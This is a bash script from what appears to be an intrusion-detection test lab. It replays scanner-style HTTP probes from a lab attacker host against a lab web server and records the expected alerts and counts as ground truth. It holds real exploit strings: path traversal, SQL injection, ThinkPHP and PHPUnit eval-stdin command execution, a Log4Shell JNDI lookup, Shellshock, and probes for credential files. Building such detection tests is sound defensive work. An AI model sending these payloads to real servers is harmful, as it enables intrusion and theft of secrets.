#!/usr/bin/env bash
# url-scan: the attacker probes the web server with curl like a vulnerability scanner: well-known
# sensitive paths, path traversal, SQL injection, OS command injection against PHP frameworks
# (ThinkPHP invokefunction, PHPUnit eval-stdin), Log4Shell and Shellshock strings, each request with
# a scanner user agent (Nikto, sqlmap, Nuclei, zgrab, masscan). Every GET gets a 404.
# requires: curl:curl python3:python3
source "$(dirname "$0")/../lab.sh"
lab_start "$@"
lab_web
lab_host attacker "$ATTACKER"
lab_wait_tcp attacker "$WEB" 80   # the new host reaches the web server before the capture starts

cat > "$LAB_DIR/paths.txt" <<'PATHS'
/.env
/.git/config
/.git/HEAD
/.aws/credentials
/.DS_Store
/wp-login.php
/wp-admin/install.php
/xmlrpc.php
/phpmyadmin/index.php
/pma/
/administrator/index.php
/config.php.bak
/backup.zip
/db.sql
/server-status
/actuator/env
/console/
/manager/html
/owa/auth/logon.aspx
/remote/login
/HNAP1/
/boaform/admin/formLogin
/solr/admin/info/system
/cgi-bin/test-cgi
/../../../../etc/passwd
/index.php?page=../../../../etc/passwd
/index.php?id=1%27%20OR%20%271%27=%271
/login.php?user=admin%27--&pass=x
/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id
/index.php?s=/index/\think\Container/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=uname%20-a
/shell.php?cmd=whoami
/index.php?cmd=;cat%20/etc/passwd
/cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E
/api/login?user=${jndi:ldap://10.77.0.66:1389/a}
/cgi-bin/status
PATHS
agents=(
  "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"
  "sqlmap/1.7.2#stable (https://sqlmap.org)"
  "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
  "Mozilla/5.0 zgrab/0.x"
  "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"
)

lab_capture_start
i=0
while IFS= read -r path; do
  ua=${agents[$((i % ${#agents[@]}))]}
  [[ $path == /cgi-bin/status ]] && ua="() { :; }; /bin/bash -c 'id'"   # Shellshock in the user agent
  lab_exec attacker curl -s -o /dev/null --max-time 5 --path-as-is -g -A "$ua" "http://$WEB$path"
  i=$((i + 1))
done < "$LAB_DIR/paths.txt"
lab_exec attacker curl -s -o /dev/null --max-time 5 -A "${agents[2]}" \
  --data-binary '<?php echo md5("mamori-lab"); system("id"); ?>' \
  "http://$WEB/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
lab_capture_stop
gets=$i

lab_truth <<JSON
{
  "scenario": "url-scan",
  "description": "scanner-style probing: $gets GETs of sensitive paths and injection payloads (404) and one PHPUnit eval-stdin POST, with scanner user agents",
  "hosts": { "attacker": "$ATTACKER", "web": "$WEB" },
  "attacker": "$ATTACKER",
  "victim": "$WEB",
  "protocol": "http",
  "facts": {
    "requests": $((gets + 1)),
    "notFound": $gets,
    "commandInjectionProbes": 5,
    "scannerUserAgents": ["Nikto", "sqlmap", "Nuclei", "zgrab", "masscan"],
    "uris": $(jq -R . "$LAB_DIR/paths.txt" | jq -sc '. + ["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"]')
  },
  "alerts": [ { "type": "url_scan", "src": "$ATTACKER", "dst": "$WEB", "dstPort": 80 } ],
  "maxSeverity": null,
  "checks": [
    { "name": "requests", "filter": "http.request", "count": $((gets + 1)) },
    { "name": "404", "filter": "http.response.code == 404", "count": $gets },
    { "name": "Nikto user agent", "filter": "http.user_agent contains \"Nikto\"", "count": 7 },
    { "name": "ThinkPHP invokefunction", "filter": "http.request.uri contains \"invokefunction\"", "count": 2 },
    { "name": "PHPUnit eval-stdin POST", "filter": "http.request.method == \"POST\" && http.request.uri contains \"eval-stdin.php\"", "count": 1 },
    { "name": "Shellshock user agent", "filter": "http.user_agent contains \"() { :; };\"", "count": 1 }
  ]
}
JSON
